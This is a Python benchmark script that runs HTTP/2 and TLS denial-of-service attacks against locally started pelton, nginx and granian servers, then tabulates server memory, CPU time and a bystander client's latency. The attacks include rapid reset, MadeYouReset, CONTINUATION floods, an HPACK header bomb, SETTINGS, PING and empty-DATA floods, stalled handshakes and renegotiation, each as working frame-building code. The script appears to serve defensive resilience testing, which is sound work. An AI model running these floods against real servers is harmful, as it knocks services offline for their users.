"""What attacks on HTTP/2 and TLS cost a server, and what another client notices of them.

    python -m benchmarks.attacks [--servers pelton,nginx] [--attacks NAMES] [--python ENVIRONMENT/bin/python]

Each attack runs for SECONDS on CONNECTIONS connections over TLS, which are opened again when the server ends
them, at most REOPENED times; nothing leaves this machine. Beside it a client asks once every PACE seconds.
The table has the server's memory before and at most (MiB, PSS), its processor time and the client's p99.
"""

from __future__ import annotations

import argparse
import contextlib
import os
import shutil
import socket
import ssl
import struct
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

from benchmarks import measure, peers

SECONDS = 4.0
CONNECTIONS = 4
REOPENED = 40
STALLED = 200
PACE = 0.01
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# GET, https, /, and an authority; then POST, and GET /large.
HEAD = bytes([0x82, 0x87, 0x84, 0x41, 1]) + b"a"
POST = bytes([0x83]) + HEAD[1:]
LARGE = HEAD[:2] + b"\x04\x06/large" + HEAD[3:]
MOST_STREAM = 2**31 - 1


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


SETTINGS = PREFACE + frame(4, 0, 0)
# INITIAL_WINDOW_SIZE 0: nothing may be sent.
CLOSED_WINDOWS = PREFACE + frame(4, 0, 0, struct.pack(">HI", 4, 0))
Pieces = Iterator[bytes]


def streams() -> Iterator[int]:
    return iter(range(1, MOST_STREAM, 2))


def rapid_reset() -> Pieces:
    yield SETTINGS
    for stream in streams():
        yield frame(1, 5, stream, HEAD) + frame(3, 0, stream, struct.pack(">I", 8))


def made_you_reset() -> Pieces:
    yield SETTINGS
    for stream in streams():
        yield frame(1, 5, stream, HEAD) + frame(8, 0, stream, b"\x7f\xff\xff\xff")


def continuation_flood() -> Pieces:
    yield SETTINGS + frame(1, 1, 1, HEAD)
    while True:
        # A literal field without indexing.
        yield frame(9, 0, 1, (b"\x00\x01x\x7f\x81\x7f" + b"v" * 256) * 60)


def header_bomb() -> Pieces:
    """One large field in the table, then references to it by one byte each, and windows that stay closed."""
    yield CLOSED_WINDOWS
    large = b"\x40\x01x\x7f\xb1\x1e" + b"v" * 4016
    yield frame(1, 5, 1, HEAD + large)
    for stream in streams():
        if stream > 1:
            yield frame(1, 5, stream, HEAD + b"\xbe" * 16_000)


def settings_flood() -> Pieces:
    yield SETTINGS
    while True:
        yield frame(4, 0, 0, struct.pack(">HI", 4, 65535))


def ping_flood() -> Pieces:
    yield SETTINGS
    while True:
        yield frame(6, 0, 0, b"12345678")


def empty_frames() -> Pieces:
    yield SETTINGS + frame(1, 4, 1, POST)
    while True:
        yield frame(0, 0, 1)


def zero_windows() -> Pieces:
    """As many requests as may be, none of whose responses, a mebibyte each, may be sent."""
    yield CLOSED_WINDOWS
    for stream in streams():
        yield frame(1, 5, stream, LARGE)
        if stream > 200:
            break


FLOODS: dict[str, Callable[[], Pieces]] = {
    "rapid reset": rapid_reset,
    "MadeYouReset": made_you_reset,
    "CONTINUATION": continuation_flood,
    "HTTP/2 bomb": header_bomb,
    "SETTINGS": settings_flood,
    "PING": ping_flood,
    "empty DATA": empty_frames,
    "closed windows": zero_windows,
}


def client_context(protocol: str) -> ssl.SSLContext:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols([protocol])
    return context


@dataclass
class Attack:
    """What was sent, and how often the server ended a connection."""

    sent: int = 0
    ended: int = 0
    lock: threading.Lock = field(default_factory=threading.Lock)


def flood(port: int, make: Callable[[], Pieces], until: float, attack: Attack) -> None:
    context = client_context("h2")
    for _ in range(REOPENED // CONNECTIONS):
        if time.monotonic() > until:
            return
        try:
            plain = socket.create_connection((peers.HOST, port), timeout=2)
            with context.wrap_socket(plain, server_hostname="localhost") as one:
                one.settimeout(0.5)
                send_pieces(one, make(), until, attack)
        except OSError:
            with attack.lock:
                attack.ended += 1


def send_pieces(one: ssl.SSLSocket, pieces: Pieces, until: float, attack: Attack) -> None:
    """Raises OSError when the server has ended the connection."""

    def send(batch: bytes | bytearray) -> None:
        with attack.lock:
            attack.sent += len(batch)
        with contextlib.suppress(TimeoutError):
            one.sendall(batch)
        take_all(one)

    batch = bytearray()
    for piece in pieces:
        batch += piece
        if len(batch) >= 65536:
            send(batch)
            batch.clear()
            if time.monotonic() > until:
                return
    send(batch)
    while time.monotonic() < until:
        take_all(one)
        time.sleep(0.02)


def take_all(one: ssl.SSLSocket) -> None:
    one.settimeout(0)
    try:
        while one.recv(65536):
            pass
        raise ConnectionError("the server has ended it")
    except (ssl.SSLWantReadError, BlockingIOError):
        pass
    finally:
        one.settimeout(0.5)


def stalled_handshakes(port: int, until: float, attack: Attack) -> None:
    """The first bytes of a ClientHello, and nothing more."""
    opened = []
    for _ in range(STALLED):
        with contextlib.suppress(OSError):
            one = socket.create_connection((peers.HOST, port), timeout=2)
            one.sendall(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")
            opened.append(one)
    while time.monotonic() < until:
        time.sleep(0.05)
    for one in opened:
        one.setblocking(False)
        with contextlib.suppress(BlockingIOError):
            attack.ended += one.recv(1) == b""
        one.close()
    attack.sent = len(opened)


def renegotiation(port: int, until: float, attack: Attack) -> None:
    """openssl's client asks for it again and again, with TLS 1.2."""
    while time.monotonic() < until and attack.ended < REOPENED:
        command = ["openssl", "s_client", "-connect", f"{peers.HOST}:{port}", "-tls1_2", "-quiet"]
        asked = subprocess.run(command, input=b"R\n" * 20, capture_output=True, timeout=10, check=False)
        attack.sent += 20
        attack.ended += asked.returncode != 0


class Client(threading.Thread):
    """Another client: one request after the other, over HTTP/1.1 and TLS."""

    def __init__(self, port: int, until: float) -> None:
        super().__init__(daemon=True)
        self._port, self._until = port, until
        self.times: list[float] = []
        self.failed = 0

    def run(self) -> None:
        while time.monotonic() < self._until:
            try:
                self._ask_on_one_connection()
            except OSError:
                self.failed += 1
                time.sleep(0.05)

    def _ask_on_one_connection(self) -> None:
        plain = socket.create_connection((peers.HOST, self._port), timeout=5)
        with client_context("http/1.1").wrap_socket(plain, server_hostname="localhost") as one:
            while (begun := time.monotonic()) < self._until:
                one.sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n")
                if not one.recv(65536):
                    raise ConnectionError("ended")
                self.times.append(time.monotonic() - begun)
                time.sleep(PACE)

    @property
    def p99_ms(self) -> float:
        ordered = sorted(self.times) or [float("nan")]
        return ordered[int(len(ordered) * 0.99)] * 1000


def make_certificate(folder: Path) -> tuple[str, str]:
    certificate, key = folder / "a.pem", folder / "a.key"
    command = ["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes"]
    command += ["-subj", "/CN=localhost", "-days", "2", "-keyout", str(key), "-out", str(certificate)]
    subprocess.run(command, check=True, capture_output=True)
    return str(certificate), str(key)


NGINX = """daemon off; master_process off; pid {folder}/pid; error_log /dev/null;
events {{ worker_connections 4096; }}
http {{ access_log off; client_body_temp_path {folder}/b; proxy_temp_path {folder}/p;
fastcgi_temp_path {folder}/f; uwsgi_temp_path {folder}/u; scgi_temp_path {folder}/s;
server {{ listen {address} ssl http2; ssl_certificate {certificate}; ssl_certificate_key {key};
location / {{ return 200 "Hello, World!"; }} location /large {{ root {folder}; }} }} }}
"""


def command_of(name: str, port: int, folder: Path, python: Path) -> list[str]:
    certificate, key = make_certificate(folder)
    address = f"{peers.HOST}:{port}"
    match name:
        case "pelton":
            program = [sys.executable, "-m", "pelton", "benchmarks.apps.bare:app", "--threads", "8"]
            return [*program, "--bind", f"https://{address}", "--certfile", certificate, "--keyfile", key]
        case "nginx":
            values = {"folder": folder, "address": address, "certificate": certificate, "key": key}
            (folder / "nginx.conf").write_text(NGINX.format(**values))
            (folder / "large").write_bytes(bytes(2**20))
            return [shutil.which("nginx") or "/usr/sbin/nginx", "-c", str(folder / "nginx.conf")]
        case "granian":
            program = [str(python.with_name("granian")), "--interface", "wsgi", "--host", peers.HOST]
            limits = ["--workers", "1", "--blocking-threads", "8", "--port", str(port)]
            files = ["--ssl-certificate", certificate, "--ssl-keyfile", key]
            return [*program, *limits, *files, "benchmarks.apps.bare:app"]
        case _:
            raise ValueError(f"no server called {name}")


@contextlib.contextmanager
def started(command: list[str], port: int) -> Iterator[int]:
    """A server, by its pid, from the moment at which its port takes connections."""
    process = subprocess.Popen(
        command,
        env={**os.environ, "PYTHONPATH": str(peers.ROOT)},
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )
    try:
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline and process.poll() is None:
            with contextlib.suppress(OSError), socket.create_connection((peers.HOST, port), timeout=1):
                break
            time.sleep(0.05)
        yield process.pid
    finally:
        process.terminate()
        try:
            process.wait(5)
        except subprocess.TimeoutExpired:
            process.kill()
            process.wait()


@contextlib.contextmanager
def running(name: str, python: Path) -> Iterator[tuple[int, int]]:
    """Its port, and its first process."""
    port = peers.free_port()
    with tempfile.TemporaryDirectory(prefix="attacks-") as folder:
        command = command_of(name, port, Path(folder), python)
        with started(command, port) as pid:
            yield port, pid


def play(port: int, pid: int, name: str) -> str:
    """One row of the table, without the server's name."""
    memory = measure.pss_bytes(pid)
    most, processor = memory, measure.cpu_seconds(pid)
    until = time.monotonic() + SECONDS
    attack, client = Attack(), Client(port, until)
    match name:
        case "none":
            threads = []
        case "200 stalled handshakes":
            threads = [threading.Thread(target=stalled_handshakes, args=(port, until, attack))]
        case "renegotiation":
            threads = [threading.Thread(target=renegotiation, args=(port, until, attack))]
        case _:
            arguments = (port, FLOODS[name], until, attack)
            threads = [threading.Thread(target=flood, args=arguments) for _ in range(CONNECTIONS)]
    for thread in (client, *threads):
        thread.start()
    while time.monotonic() < until:
        most = max(most, measure.pss_bytes(pid))
        time.sleep(0.1)
    for thread in (client, *threads):
        thread.join(15)
    spent = measure.cpu_seconds(pid) - processor
    mib = 2**20
    figures = [
        f"{memory / mib:.0f} → {most / mib:.0f}",
        f"{spent:.2f}",
        f"{client.p99_ms:.0f}",
        str(client.failed),
        str(attack.ended),
        f"{attack.sent / mib:.1f}" if name in FLOODS else str(attack.sent),
    ]
    return " | ".join(figures)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--servers", default="pelton,nginx,granian")
    parser.add_argument(
        "--python", type=Path, default=Path(sys.executable), help="whose environment has granian"
    )
    parser.add_argument("--attacks", help="only these, by the names in the table, between commas")
    options = parser.parse_args()
    names = ("none", *FLOODS, "200 stalled handshakes", "renegotiation")
    if options.attacks:
        names = tuple(options.attacks.split(","))
    print("| attack | server | MiB before → most | processor s | p99 ms | client's failures | ended | sent |")
    print("| --- | --- | --- | --- | --- | --- | --- | --- |")
    for name in names:
        for server in options.servers.split(","):
            with running(server, options.python) as (port, pid):
                # Past the first requests, which allocate.
                play_warm_up(port)
                print(f"| {name} | {server} | {play(port, pid, name)} |", flush=True)


def play_warm_up(port: int) -> None:
    client = Client(port, time.monotonic() + 0.5)
    client.start()
    client.join()


if __name__ == "__main__":
    main()
